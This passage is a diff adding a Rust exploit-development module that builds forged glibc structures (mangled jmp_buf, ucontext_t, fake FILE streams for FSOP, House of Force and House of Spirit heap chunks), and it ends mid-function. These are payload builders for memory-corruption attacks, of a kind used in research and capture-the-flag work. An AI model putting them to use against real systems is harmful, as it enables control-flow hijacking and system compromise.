@@ -0,0 +1,1289 @@
+//! Forged glibc structures.
+//!
+//! Exploits that hijack control flow through glibc internals, e.g.
+//! `longjmp`, `setcontext` or file streams (FSOP), forge its structures in
+//! memory they control, and heap exploits forge chunks, e.g. the classic
+//! House of Force and House of Spirit.
+//! Their layouts are laid out here by field name, for the glibc [`Version`]
+//! at hand, so that exploit code does not carry tables of magic offsets.
+//!
+//! # Examples
+//!
+//! ```rust
+//! use shellcoder::glibc::{JmpBuf, JmpBufRegister};
+//! use shellcoder::ops::Mangling;
+//! use shellcoder::r#static::Shellcoder;
+//! use shellcoder::Shellcoder as _;
+//! # use shellcoder::Result;
+//!
+//! # pub fn main() -> Result<()> {
+//! // The pointer guard, e.g. derived from a leaked mangled pointer.
+//! let cookie = 0x1f2e_3d4c_5b6a_7988;
+//! let jmp_buf = JmpBuf::new(cookie)
+//!     .with_register(JmpBufRegister::Rsp, 0x7ffe_0000_1000)
+//!     .with_register(JmpBufRegister::Rip, 0x40_1136);
+//!
+//! let mut buffer = [0u8; 0x100];
+//! let mut shellcoder = Shellcoder::new(&mut buffer);
+//! shellcoder.add(jmp_buf)?;
+//! let rip = Mangling::PtrMangle { cookie }.mangle(0x40_1136);
+//! assert_eq!(shellcoder.get()[0x38..0x40], rip.to_le_bytes());
+//! # Ok(())
+//! # }
+//! ```
+
+use core::fmt;
+#[cfg(feature = "std")]
+use std::io;
+
+use crate::ops::{AnyOp, Fill, Mangling, WriteBuffer, WriteInteger};
+use crate::prelude::*;
+
+/// Length of a glibc `jmp_buf` on `x86_64`, i.e. of `struct __jmp_buf_tag`.
+pub const JMP_BUF_LEN: usize = 200;
+
+/// Length of a glibc `ucontext_t` on `x86_64`, since glibc 2.28 added the
+/// shadow stack (`__ssp`).
+pub const UCONTEXT_LEN: usize = 0x3c8;
+
+/// Length of a glibc `ucontext_t` on `x86_64`, before glibc 2.28.
+pub const UCONTEXT_LEN_PRE_2_28: usize = 0x3a8;
+
+/// Offset of the general-purpose registers (`uc_mcontext.gregs`) in a
+/// `ucontext_t`.
+const UCONTEXT_GREGS: usize = 0x28;
+
+/// Offset of the pointer to the floating-point state (`uc_mcontext.fpregs`)
+/// in a `ucontext_t`.
+const UCONTEXT_FPREGS: usize = 0xe0;
+
+/// Length of a glibc `_IO_FILE_plus` on `x86_64`, i.e. a `FILE` followed
+/// by the pointer to its vtable.
+pub const IO_FILE_PLUS_LEN: usize = 0xe0;
+
+/// Magic of the flags of `FILE` streams (`_IO_MAGIC`).
+pub const IO_MAGIC: u32 = 0xfbad_0000;
+
+/// Alignment of heap chunks on `x86_64`.
+const MALLOC_ALIGNMENT: u64 = 0x10;
+
+/// Length of the header of a heap chunk, i.e. `prev_size` and `size`.
+const CHUNK_HEADER_LEN: u64 = 0x10;
+
+/// Size of the smallest heap chunk.
+const MIN_CHUNK_SIZE: u64 = 0x20;
+
+/// Size of the largest chunk in fastbins, by default.
+const MAX_FAST_SIZE: u64 = 0x80;
+
+/// Size of the largest chunk in the tcache, since glibc 2.26.
+const MAX_TCACHE_SIZE: u64 = 0x410;
+
+/// Size of the chunk that follows a fake chunk, which `free` checks.
+const NEXT_CHUNK_SIZE: u64 = 0x21;
+
+/// Initial x87 control word, i.e. all exceptions masked.
+const FCW_DEFAULT: u16 = 0x37f;
+
+/// Initial SSE control and status register, i.e. all exceptions masked.
+const MXCSR_DEFAULT: u32 = 0x1f80;
+
+/// A version of glibc, e.g. 2.35.
+///
+/// # Examples
+///
+/// ```rust
+/// use shellcoder::glibc::Version;
+///
+/// assert!(Version::new(2, 35) > Version::new(2, 9));
+/// # #[cfg(feature = "std")]
+/// assert_eq!(Version::new(2, 31).to_string(), "2.31");
+/// ```
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
+#[cfg_attr(feature = "serde", derive(Serialize, Deserialize))]
+pub struct Version {
+    /// Major version.
+    major: u16,
+
+    /// Minor version.
+    minor: u16,
+}
+
+impl Version {
+    /// Instantiates a new [`Version`].
+    #[inline]
+    #[must_use]
+    pub const fn new(major: u16, minor: u16) -> Self {
+        Self { major, minor }
+    }
+
+    /// Returns the major version.
+    #[inline]
+    #[must_use]
+    pub const fn major(&self) -> u16 {
+        self.major
+    }
+
+    /// Returns the minor version.
+    #[inline]
+    #[must_use]
+    pub const fn minor(&self) -> u16 {
+        self.minor
+    }
+
+    /// Returns `true` if vtables of `FILE` streams are validated, i.e. must
+    /// be in the `__libc_IO_vtables` section, since glibc 2.24.
+    #[inline]
+    #[must_use]
+    pub const fn validates_vtables(&self) -> bool {
+        self.at_least(2, 24)
+    }
+
+    /// Returns `true` if freed chunks go to the tcache first, since glibc
+    /// 2.26.
+    #[inline]
+    #[must_use]
+    pub const fn has_tcache(&self) -> bool {
+        self.at_least(2, 26)
+    }
+
+    /// Returns `true` if this is at least `major.minor`.
+    const fn at_least(self, major: u16, minor: u16) -> bool {
+        self.major > major || (self.major == major && self.minor >= minor)
+    }
+}
+
+impl fmt::Display for Version {
+    #[inline]
+    fn fmt(&self, fmt: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(fmt, "{}.{}", self.major, self.minor)
+    }
+}
+
+/// A register saved in a glibc `jmp_buf`, see [`JmpBuf`].
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
+#[cfg_attr(feature = "serde", derive(Serialize, Deserialize))]
+#[non_exhaustive]
+pub enum JmpBufRegister {
+    /// `rbx`.
+    Rbx,
+
+    /// `rbp`, mangled.
+    Rbp,
+
+    /// `r12`.
+    R12,
+
+    /// `r13`.
+    R13,
+
+    /// `r14`.
+    R14,
+
+    /// `r15`.
+    R15,
+
+    /// `rsp`, mangled.
+    Rsp,
+
+    /// The address `longjmp` jumps to, mangled.
+    Rip,
+}
+
+impl JmpBufRegister {
+    /// Registers, in the order they are saved.
+    pub const ALL: [Self; 8] = [
+        Self::Rbx,
+        Self::Rbp,
+        Self::R12,
+        Self::R13,
+        Self::R14,
+        Self::R15,
+        Self::Rsp,
+        Self::Rip,
+    ];
+
+    /// Returns the offset of the register in the buffer.
+    #[inline]
+    #[must_use]
+    pub const fn offset(self) -> usize {
+        self.index().saturating_mul(8)
+    }
+
+    /// Returns `true` if glibc mangles the register before saving it, see
+    /// [`Mangling::PtrMangle`].
+    #[inline]
+    #[must_use]
+    pub const fn is_mangled(self) -> bool {
+        matches!(self, Self::Rbp | Self::Rsp | Self::Rip)
+    }
+
+    /// Returns the index of the register in the buffer.
+    const fn index(self) -> usize {
+        match self {
+            Self::Rbx => 0,
+            Self::Rbp => 1,
+            Self::R12 => 2,
+            Self::R13 => 3,
+            Self::R14 => 4,
+            Self::R15 => 5,
+            Self::Rsp => 6,
+            Self::Rip => 7,
+        }
+    }
+}
+
+/// An operation that writes a glibc `jmp_buf` for `x86_64`, to hijack
+/// control flow through `longjmp`.
+///
+/// Registers are given unmangled: `rbp`, `rsp` and the return address are
+/// mangled with the pointer guard, see [`Mangling::PtrMangle`]. The signal
+/// mask is not saved, so that `longjmp` leaves it alone.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
+#[cfg_attr(feature = "serde", derive(Serialize, Deserialize))]
+pub struct JmpBuf {
+    /// Registers, unmangled, in the order they are saved.
+    registers: [u64; 8],
+
+    /// The pointer guard.
+    cookie: u64,
+}
+
+impl JmpBuf {
+    /// Instantiates a new [`JmpBuf`], with null registers, mangled with the
+    /// pointer guard `cookie`.
+    #[inline]
+    #[must_use]
+    pub const fn new(cookie: u64) -> Self {
+        Self {
+            registers: [0; 8],
+            cookie,
+        }
+    }
+
+    /// Sets a register, unmangled.
+    #[inline]
+    #[must_use]
+    pub fn with_register(mut self, register: JmpBufRegister, value: u64) -> Self {
+        if let Some(slot) = self.registers.get_mut(register.index()) {
+            *slot = value;
+        }
+        self
+    }
+
+    /// Returns a register, unmangled.
+    #[inline]
+    #[must_use]
+    pub fn register(&self, register: JmpBufRegister) -> u64 {
+        self.registers
+            .get(register.index())
+            .copied()
+            .unwrap_or_default()
+    }
+
+    /// Returns the pointer guard.
+    #[inline]
+    #[must_use]
+    pub const fn cookie(&self) -> u64 {
+        self.cookie
+    }
+
+    /// Returns the bytes of the buffer.
+    fn bytes(&self) -> [u8; JMP_BUF_LEN] {
+        let mangling = Mangling::PtrMangle {
+            cookie: self.cookie,
+        };
+        let mut bytes = [0; JMP_BUF_LEN];
+        for (register, slot) in JmpBufRegister::ALL.iter().zip(bytes.chunks_exact_mut(8)) {
+            let value = self.register(*register);
+            let saved = if register.is_mangled() {
+                mangling.mangle(value)
+            } else {
+                value
+            };
+            slot.copy_from_slice(&saved.to_le_bytes());
+        }
+        bytes
+    }
+}
+
+impl Op for JmpBuf {
+    #[cfg(feature = "std")]
+    #[inline]
+    fn write_to_io(&self, stream: &mut dyn io::Write) -> Result<usize> {
+        WriteBuffer::new(&self.bytes()).write_to_io(stream)
+    }
+
+    #[inline]
+    fn write_to(&self, out: impl AsMut<[u8]>) -> Result<usize> {
+        WriteBuffer::new(&self.bytes()).write_to(out)
+    }
+
+    #[inline]
+    fn size(&self) -> Option<usize> {
+        Some(JMP_BUF_LEN)
+    }
+}
+
+/// A register restored from a glibc `ucontext_t`, see [`Ucontext`].
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
+#[cfg_attr(feature = "serde", derive(Serialize, Deserialize))]
+#[non_exhaustive]
+pub enum UcontextRegister {
+    /// `r8`.
+    R8,
+
+    /// `r9`.
+    R9,
+
+    /// `r10`.
+    R10,
+
+    /// `r11`.
+    R11,
+
+    /// `r12`.
+    R12,
+
+    /// `r13`.
+    R13,
+
+    /// `r14`.
+    R14,
+
+    /// `r15`.
+    R15,
+
+    /// `rdi`.
+    Rdi,
+
+    /// `rsi`.
+    Rsi,
+
+    /// `rbp`.
+    Rbp,
+
+    /// `rbx`.
+    Rbx,
+
+    /// `rdx`.
+    Rdx,
+
+    /// `rax`.
+    Rax,
+
+    /// `rcx`.
+    Rcx,
+
+    /// `rsp`, i.e. the stack `setcontext` pivots to.
+    Rsp,
+
+    /// The address `setcontext` jumps to.
+    Rip,
+}
+
+impl UcontextRegister {
+    /// Returns the offset of the register in the context.
+    #[inline]
+    #[must_use]
+    pub const fn offset(self) -> usize {
+        UCONTEXT_GREGS.saturating_add(self.index().saturating_mul(8))
+    }
+
+    /// Returns the index of the register in `uc_mcontext.gregs`.
+    const fn index(self) -> usize {
+        match self {
+            Self::R8 => 0,
+            Self::R9 => 1,
+            Self::R10 => 2,
+            Self::R11 => 3,
+            Self::R12 => 4,
+            Self::R13 => 5,
+            Self::R14 => 6,
+            Self::R15 => 7,
+            Self::Rdi => 8,
+            Self::Rsi => 9,
+            Self::Rbp => 10,
+            Self::Rbx => 11,
+            Self::Rdx => 12,
+            Self::Rax => 13,
+            Self::Rcx => 14,
+            Self::Rsp => 15,
+            Self::Rip => 16,
+        }
+    }
+}
+
+/// An operation that writes a glibc `ucontext_t` for `x86_64`, to pivot
+/// through `setcontext` or `swapcontext`, e.g. from a heap exploit.
+///
+/// `setcontext` loads the floating-point state from `uc_mcontext.fpregs`,
+/// which must point to readable memory: the context embeds one
+/// (`__fpregs_mem`), with all exceptions masked, see
+/// [`Ucontext::FPREGS_MEM_OFFSET`].
+///
+/// # Examples
+///
+/// ```rust
+/// use shellcoder::glibc::{Ucontext, UcontextRegister, Version};
+/// use shellcoder::r#static::Shellcoder;
+/// use shellcoder::Shellcoder as _;
+/// # use shellcoder::Result;
+///
+/// # pub fn main() -> Result<()> {
+/// // The context is written at 0x4052a0, e.g. in a chunk of the heap.
+/// let context = Ucontext::new(Version::new(2, 35))
+///     .with_register(UcontextRegister::Rsp, 0x40_5800)
+///     .with_register(UcontextRegister::Rip, 0x40_1016)
+///     .with_fpregs(0x40_52a0 + Ucontext::FPREGS_MEM_OFFSET);
+///
+/// let mut buffer = [0u8; 0x400];
+/// let mut shellcoder = Shellcoder::new(&mut buffer);
+/// shellcoder.add(context)?;
+/// assert_eq!(shellcoder.get().len(), 0x3c8);
+/// assert_eq!(shellcoder.get()[0xa0..0xa8], *b"\0\x58\x40\0\0\0\0\0");
+/// # Ok(())
+/// # }
+/// ```
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
+#[cfg_attr(feature = "serde", derive(Serialize, Deserialize))]
+pub struct Ucontext {
+    /// Version of glibc.
+    version: Version,
+
+    /// General-purpose registers, in the order of `uc_mcontext.gregs`.
+    registers: [u64; 17],
+
+    /// Pointer to the floating-point state.
+    fpregs: u64,
+}
+
+impl Ucontext {
+    /// Offset of the floating-point state embedded in the context
+    /// (`__fpregs_mem`), to point `uc_mcontext.fpregs` at, see
+    /// [`Ucontext::with_fpregs`].
+    pub const FPREGS_MEM_OFFSET: u64 = 0x1a8;
+
+    /// Instantiates a new [`Ucontext`], with null registers, for a version
+    /// of glibc.
+    #[inline]
+    #[must_use]
+    pub const fn new(version: Version) -> Self {
+        Self {
+            version,
+            registers: [0; 17],
+            fpregs: 0,
+        }
+    }
+
+    /// Sets a register.
+    #[inline]
+    #[must_use]
+    pub fn with_register(mut self, register: UcontextRegister, value: u64) -> Self {
+        if let Some(slot) = self.registers.get_mut(register.index()) {
+            *slot = value;
+        }
+        self
+    }
+
+    /// Sets the address of the floating-point state, i.e. the address of
+    /// the context plus [`Ucontext::FPREGS_MEM_OFFSET`], unless another
+    /// one is at hand.
+    #[inline]
+    #[must_use]
+    pub const fn with_fpregs(mut self, address: u64) -> Self {
+        self.fpregs = address;
+        self
+    }
+
+    /// Returns a register.
+    #[inline]
+    #[must_use]
+    pub fn register(&self, register: UcontextRegister) -> u64 {
+        self.registers
+            .get(register.index())
+            .copied()
+            .unwrap_or_default()
+    }
+
+    /// Returns the version of glibc.
+    #[inline]
+    #[must_use]
+    pub const fn version(&self) -> Version {
+        self.version
+    }
+
+    /// Returns the length of the context, which depends on the version of
+    /// glibc.
+    const fn len(self) -> usize {
+        if self.version.at_least(2, 28) {
+            UCONTEXT_LEN
+        } else {
+            UCONTEXT_LEN_PRE_2_28
+        }
+    }
+
+    /// Returns the bytes of the context.
+    fn bytes(&self) -> [u8; UCONTEXT_LEN] {
+        let mut bytes = [0; UCONTEXT_LEN];
+        let gregs = bytes.get_mut(UCONTEXT_GREGS..).unwrap_or_default();
+        for (value, slot) in self.registers.iter().zip(gregs.chunks_exact_mut(8)) {
+            slot.copy_from_slice(&value.to_le_bytes());
+        }
+        let fpregs_mem = usize::try_from(Self::FPREGS_MEM_OFFSET).unwrap_or_default();
+        put(&mut bytes, UCONTEXT_FPREGS, &self.fpregs.to_le_bytes());
+        put(&mut bytes, fpregs_mem, &FCW_DEFAULT.to_le_bytes());
+        put(
+            &mut bytes,
+            fpregs_mem.saturating_add(0x18),
+            &MXCSR_DEFAULT.to_le_bytes(),
+        );
+        bytes
+    }
+}
+
+impl Op for Ucontext {
+    #[cfg(feature = "std")]
+    #[inline]
+    fn write_to_io(&self, stream: &mut dyn io::Write) -> Result<usize> {
+        let bytes = self.bytes();
+        WriteBuffer::new(bytes.get(..self.len()).unwrap_or_default()).write_to_io(stream)
+    }
+
+    #[inline]
+    fn write_to(&self, out: impl AsMut<[u8]>) -> Result<usize> {
+        let bytes = self.bytes();
+        WriteBuffer::new(bytes.get(..self.len()).unwrap_or_default()).write_to(out)
+    }
+
+    #[inline]
+    fn size(&self) -> Option<usize> {
+        Some(self.len())
+    }
+}
+
+/// A field of a glibc `_IO_FILE_plus`, see [`IoFile`].
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
+#[cfg_attr(feature = "serde", derive(Serialize, Deserialize))]
+#[non_exhaustive]
+pub enum IoFileField {
+    /// `_flags`, 32-bit.
+    Flags,
+
+    /// `_IO_read_ptr`.
+    ReadPtr,
+
+    /// `_IO_read_end`.
+    ReadEnd,
+
+    /// `_IO_read_base`.
+    ReadBase,
+
+    /// `_IO_write_base`.
+    WriteBase,
+
+    /// `_IO_write_ptr`.
+    WritePtr,
+
+    /// `_IO_write_end`.
+    WriteEnd,
+
+    /// `_IO_buf_base`.
+    BufBase,
+
+    /// `_IO_buf_end`.
+    BufEnd,
+
+    /// `_IO_save_base`.
+    SaveBase,
+
+    /// `_IO_backup_base`.
+    BackupBase,
+
+    /// `_IO_save_end`.
+    SaveEnd,
+
+    /// `_markers`.
+    Markers,
+
+    /// `_chain`, i.e. the next stream in `_IO_list_all`.
+    Chain,
+
+    /// `_fileno`, 32-bit.
+    Fileno,
+
+    /// `_flags2`, 32-bit.
+    Flags2,
+
+    /// `_old_offset`.
+    OldOffset,
+
+    /// `_lock`, which must point to writable memory, e.g. null bytes.
+    Lock,
+
+    /// `_offset`.
+    Offset,
+
+    /// `_codecvt`.
+    Codecvt,
+
+    /// `_wide_data`.
+    WideData,
+
+    /// `_freeres_list`.
+    FreeresList,
+
+    /// `_freeres_buf`.
+    FreeresBuf,
+
+    /// `_mode`, 32-bit.
+    Mode,
+
+    /// `vtable`.
+    Vtable,
+}
+
+impl IoFileField {
+    /// Fields, in the order of the structure.
+    pub const ALL: [Self; 25] = [
+        Self::Flags,
+        Self::ReadPtr,
+        Self::ReadEnd,
+        Self::ReadBase,
+        Self::WriteBase,
+        Self::WritePtr,
+        Self::WriteEnd,
+        Self::BufBase,
+        Self::BufEnd,
+        Self::SaveBase,
+        Self::BackupBase,
+        Self::SaveEnd,
+        Self::Markers,
+        Self::Chain,
+        Self::Fileno,
+        Self::Flags2,
+        Self::OldOffset,
+        Self::Lock,
+        Self::Offset,
+        Self::Codecvt,
+        Self::WideData,
+        Self::FreeresList,
+        Self::FreeresBuf,
+        Self::Mode,
+        Self::Vtable,
+    ];
+
+    /// Returns the offset of the field in the structure.
+    #[inline]
+    #[must_use]
+    pub const fn offset(self) -> usize {
+        match self {
+            Self::Flags => 0,
+            Self::ReadPtr => 0x08,
+            Self::ReadEnd => 0x10,
+            Self::ReadBase => 0x18,
+            Self::WriteBase => 0x20,
+            Self::WritePtr => 0x28,
+            Self::WriteEnd => 0x30,
+            Self::BufBase => 0x38,
+            Self::BufEnd => 0x40,
+            Self::SaveBase => 0x48,
+            Self::BackupBase => 0x50,
+            Self::SaveEnd => 0x58,
+            Self::Markers => 0x60,
+            Self::Chain => 0x68,
+            Self::Fileno => 0x70,
+            Self::Flags2 => 0x74,
+            Self::OldOffset => 0x78,
+            Self::Lock => 0x88,
+            Self::Offset => 0x90,
+            Self::Codecvt => 0x98,
+            Self::WideData => 0xa0,
+            Self::FreeresList => 0xa8,
+            Self::FreeresBuf => 0xb0,
+            Self::Mode => 0xc0,
+            Self::Vtable => 0xd8,
+        }
+    }
+
+    /// Returns the width of the field, in bytes.
+    #[inline]
+    #[must_use]
+    pub const fn width(self) -> usize {
+        match self {
+            Self::Flags | Self::Fileno | Self::Flags2 | Self::Mode => 4,
+            Self::ReadPtr
+            | Self::ReadEnd
+            | Self::ReadBase
+            | Self::WriteBase
+            | Self::WritePtr
+            | Self::WriteEnd
+            | Self::BufBase
+            | Self::BufEnd
+            | Self::SaveBase
+            | Self::BackupBase
+            | Self::SaveEnd
+            | Self::Markers
+            | Self::Chain
+            | Self::OldOffset
+            | Self::Lock
+            | Self::Offset
+            | Self::Codecvt
+            | Self::WideData
+            | Self::FreeresList
+            | Self::FreeresBuf
+            | Self::Vtable => 8,
+        }
+    }
+
+    /// Returns the index of the field in [`IoFileField::ALL`].
+    fn index(self) -> usize {
+        Self::ALL
+            .iter()
+            .position(|&field| field == self)
+            .unwrap_or_default()
+    }
+}
+
+/// An operation that writes a fake glibc `_IO_FILE_plus` for `x86_64`, i.e.
+/// a `FILE` stream and its vtable pointer, for file-stream oriented
+/// programming (FSOP).
+///
+/// Fields are null, but `_flags`, which holds [`IO_MAGIC`]. The layout is
+/// the same for all supported versions of glibc, whose version tells how
+/// the vtable pointer is checked, see [`Version::validates_vtables`].
+///
+/// # Examples
+///
+/// ```rust
+/// use shellcoder::glibc::{IoFile, IoFileField, Version};
+/// use shellcoder::r#static::Shellcoder;
+/// use shellcoder::Shellcoder as _;
+/// # use shellcoder::Result;
+///
+/// # pub fn main() -> Result<()> {
+/// // `_IO_flush_all` calls `overflow` when `_IO_write_ptr` is past
+/// // `_IO_write_base`.
+/// let file = IoFile::new(Version::new(2, 23))
+///     .with_field(IoFileField::WriteBase, 0)
+///     .with_field(IoFileField::WritePtr, 1)
+///     .with_field(IoFileField::Lock, 0x60_1100)
+///     .with_field(IoFileField::Vtable, 0x60_1200);
+/// assert!(!file.version().validates_vtables());
+///
+/// let mut buffer = [0u8; 0x100];
+/// let mut shellcoder = Shellcoder::new(&mut buffer);
+/// shellcoder.add(file)?;
+/// assert_eq!(shellcoder.get()[..4], *b"\0\0\xad\xfb");
+/// assert_eq!(shellcoder.get()[0xd8..], *b"\0\x12\x60\0\0\0\0\0");
+/// # Ok(())
+/// # }
+/// ```
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
+#[cfg_attr(feature = "serde", derive(Serialize, Deserialize))]
+pub struct IoFile {
+    /// Version of glibc.
+    version: Version,
+
+    /// Fields, in the order of [`IoFileField::ALL`].
+    fields: [u64; 25],
+}
+
+impl IoFile {
+    /// Instantiates a new [`IoFile`], for a version of glibc.
+    #[inline]
+    #[must_use]
+    pub fn new(version: Version) -> Self {
+        Self {
+            version,
+            fields: [0; 25],
+        }
+        .with_field(IoFileField::Flags, IO_MAGIC.into())
+    }
+
+    /// Sets a field. 32-bit fields must fit in 32 bits, e.g. `0xffff_ffff`
+    /// for a `_fileno` of -1.
+    #[inline]
+    #[must_use]
+    pub fn with_field(mut self, field: IoFileField, value: u64) -> Self {
+        if let Some(slot) = self.fields.get_mut(field.index()) {
+            *slot = value;
+        }
+        self
+    }
+
+    /// Returns a field.
+    #[inline]
+    #[must_use]
+    pub fn field(&self, field: IoFileField) -> u64 {
+        self.fields.get(field.index()).copied().unwrap_or_default()
+    }
+
+    /// Returns the version of glibc.
+    #[inline]
+    #[must_use]
+    pub const fn version(&self) -> Version {
+        self.version
+    }
+
+    /// Returns the bytes of the structure.
+    fn bytes(&self) -> Result<[u8; IO_FILE_PLUS_LEN]> {
+        let mut bytes = [0; IO_FILE_PLUS_LEN];
+        for (field, &value) in IoFileField::ALL.iter().zip(&self.fields) {
+            if field.width() == 4 {
+                put(
+                    &mut bytes,
+                    field.offset(),
+                    &u32::try_from(value)?.to_le_bytes(),
+                );
+            } else {
+                put(&mut bytes, field.offset(), &value.to_le_bytes());
+            }
+        }
+        Ok(bytes)
+    }
+}
+
+impl Op for IoFile {
+    #[cfg(feature = "std")]
+    #[inline]
+    fn write_to_io(&self, stream: &mut dyn io::Write) -> Result<usize> {
+        WriteBuffer::new(&self.bytes()?).write_to_io(stream)
+    }
+
+    #[inline]
+    fn write_to(&self, out: impl AsMut<[u8]>) -> Result<usize> {
+        WriteBuffer::new(&self.bytes()?).write_to(out)
+    }
+
+    #[inline]
+    fn size(&self) -> Option<usize> {
+        Some(IO_FILE_PLUS_LEN)
+    }
+}
+
+/// An operation that writes the size of the top chunk for the House of
+/// Force, i.e. the largest one, so that `malloc` carves a chunk of any
+/// size out of it, up to an arbitrary address.
+///
+/// The operation overwrites the `size` field of the top chunk: once it has
+/// been written, allocating [`HouseOfForce::request_size`] bytes moves the
+/// top chunk so that the next allocation returns the target. The technique
+/// has been patched in glibc 2.29.
+///
+/// # Examples
+///
+/// ```rust
+/// use shellcoder::glibc::{HouseOfForce, Version};
+/// use shellcoder::r#static::Shellcoder;
+/// use shellcoder::Shellcoder as _;
+/// # use shellcoder::Result;
+///
+/// # pub fn main() -> Result<()> {
+/// // The top chunk is at 0x603100, `__malloc_hook` at 0x7ffff7dd1b10.
+/// let house = HouseOfForce::new(Version::new(2, 23), 0x60_3100, 0x7fff_f7dd_1b10);
+/// assert_eq!(house.request_size()?, 0x7fff_f77c_e9f8);
+///
+/// let mut buffer = [0u8; 8];
+/// let mut shellcoder = Shellcoder::new(&mut buffer);
+/// shellcoder.add(house)?;
+/// assert_eq!(shellcoder.get(), b"\xff\xff\xff\xff\xff\xff\xff\xff");
+///
+/// let patched = HouseOfForce::new(Version::new(2, 29), 0x60_3100, 0x7fff_f7dd_1b10);
+/// assert!(patched.request_size().is_err());
+/// # Ok(())
+/// # }
+/// ```
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
+#[cfg_attr(feature = "serde", derive(Serialize, Deserialize))]
+pub struct HouseOfForce {
+    /// Version of glibc.
+    version: Version,
+
+    /// Address of the top chunk, i.e. of its header.
+    top: u64,
+
+    /// Address the allocation following the request must return.
+    target: u64,
+}
+
+impl HouseOfForce {
+    /// Instantiates a new [`HouseOfForce`], from the address of the top
+    /// chunk, i.e. of its header, to the address an allocation must return.
+    #[inline]
+    #[must_use]
+    pub const fn new(version: Version, top: u64, target: u64) -> Self {
+        Self {
+            version,
+            top,
+            target,
+        }
+    }
+
+    /// Returns the number of bytes to allocate once the size of the top
+    /// chunk has been overwritten, so that the next allocation returns the
+    /// target. It wraps around the address space when the target precedes
+    /// the top chunk.
+    ///
+    /// # Errors
+    ///
+    ///  - [`Error::Unsupported`]: the technique has been patched in this
+    ///    version of glibc.
+    ///  - [`Error::Misaligned`]: the target is not aligned on chunks.
+    #[inline]
+    pub fn request_size(&self) -> Result<u64> {
+        self.check()?;
+        let size = self
+            .target
+            .wrapping_sub(CHUNK_HEADER_LEN)
+            .wrapping_sub(self.top);
+        if size & MALLOC_ALIGNMENT.wrapping_sub(1) != 0 {
+            return Err(Error::Misaligned {
+                value: self.target,
+                alignment: MALLOC_ALIGNMENT,
+            });
+        }
+        // The request, padded with the `size` field of the next chunk,
+        // rounds up to the size of the chunk.
+        Ok(size.wrapping_sub(CHUNK_HEADER_LEN.wrapping_shr(1)))
+    }
+
+    /// Returns the version of glibc.
+    #[inline]
+    #[must_use]
+    pub const fn version(&self) -> Version {
+        self.version
+    }
+
+    /// Checks that the technique works with this version of glibc.
+    const fn check(&self) -> Result<()> {
+        if self.version.at_least(2, 29) {
+            Err(Error::Unsupported(
+                "the size of the top chunk is checked since glibc 2.29",
+            ))
+        } else {
+            Ok(())
+        }
+    }
+}
+
+impl Op for HouseOfForce {
+    #[cfg(feature = "std")]
+    #[inline]
+    fn write_to_io(&self, stream: &mut dyn io::Write) -> Result<usize> {
+        self.check()?;
+        WriteInteger::new_le(u64::MAX).write_to_io(stream)
+    }
+
+    #[inline]
+    fn write_to(&self, out: impl AsMut<[u8]>) -> Result<usize> {
+        self.check()?;
+        WriteInteger::new_le(u64::MAX).write_to(out)
+    }
+
+    #[inline]
+    fn size(&self) -> Option<usize> {
+        WriteInteger::new_le(u64::MAX).size()
+    }
+}
+
+/// An operation that writes a fake chunk for the House of Spirit, i.e. a
+/// chunk that `free` accepts, so that a later allocation of the same size
+/// returns memory the exploit controls, e.g. on the stack.
+///
+/// The operation writes the header of the chunk, its null content, and the
+/// header of the next chunk, whose size is checked by `free`. The pointer
+/// to free is [`HouseOfSpirit::pointer`]. The size must fit in fastbins,
+/// or in the tcache since glibc 2.26.
+///
+/// # Examples
+///
+/// ```rust
+/// use shellcoder::glibc::{HouseOfSpirit, Version};
+/// use shellcoder::r#static::Shellcoder;
+/// use shellcoder::Shellcoder as _;
+/// # use shellcoder::Result;
+///
+/// # pub fn main() -> Result<()> {
+/// // The fake chunk is written at 0x7fffffffe400, e.g. in a stack buffer.
+/// let house = HouseOfSpirit::new(Version::new(2, 23), 0x7fff_ffff_e400, 0x40);
+/// assert_eq!(house.pointer(), 0x7fff_ffff_e410);
+///
+/// let mut buffer = [0u8; 0x50];
+/// let mut shellcoder = Shellcoder::new(&mut buffer);
+/// shellcoder.add(house)?;
+/// assert_eq!(shellcoder.get()[8..0x10], *b"\x40\0\0\0\0\0\0\0");
+/// assert_eq!(shellcoder.get()[0x48..], *b"\x21\0\0\0\0\0\0\0");
+///
+/// // Too large for fastbins.
+/// let house = HouseOfSpirit::new(Version::new(2, 23), 0x7fff_ffff_e400, 0x100);
+/// assert!(Shellcoder::new(&mut [0u8; 0x50]).add(house).is_err());
+/// # Ok(())
+/// # }
+/// ```
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
+#[cfg_attr(feature = "serde", derive(Serialize, Deserialize))]
+pub struct HouseOfSpirit {
+    /// Version of glibc.
+    version: Version,
+
+    /// Address of the fake chunk, i.e. of its header.
+    address: u64,
+
+    /// Size of the fake chunk.
+    size: u64,
+}
+
+impl HouseOfSpirit {
+    /// Instantiates a new [`HouseOfSpirit`], for a fake chunk of `size`
+    /// bytes, header included, written at `address`.
+    #[inline]
+    #[must_use]
+    pub const fn new(version: Version, address: u64, size: u64) -> Self {
+        Self {
+            version,
+            address,
+            size,
+        }
+    }
+
+    /// Returns the pointer to free, i.e. the address of the content of the
+    /// fake chunk.
+    #[inline]
+    #[must_use]
+    pub const fn pointer(&self) -> u64 {
+        self.address.wrapping_add(CHUNK_HEADER_LEN)
+    }
+
+    /// Returns the version of glibc.
+    #[inline]
+    #[must_use]
+    pub const fn version(&self) -> Version {
+        self.version
+    }
+
+    /// Returns the operations writing the fake chunk.
+    fn ops(&self) -> Result<[AnyOp<'static>; 5]> {
+        for value in [self.address, self.size] {
+            if value & MALLOC_ALIGNMENT.wrapping_sub(1) != 0 {
+                return Err(Error::Misaligned {
+                    value,
+                    alignment: MALLOC_ALIGNMENT,
+                });
+            }
+        }
+        let max_size = if self.version.has_tcache() {
+            MAX_TCACHE_SIZE
+        } else {
+            MAX_FAST_SIZE
+        };
+        if !(MIN_CHUNK_SIZE..=max_size).contains(&self.size) {
+            return Err(Error::Unsupported(
+                "the size of the fake chunk is out of the range of fastbins and the tcache",
+            ));
+        }
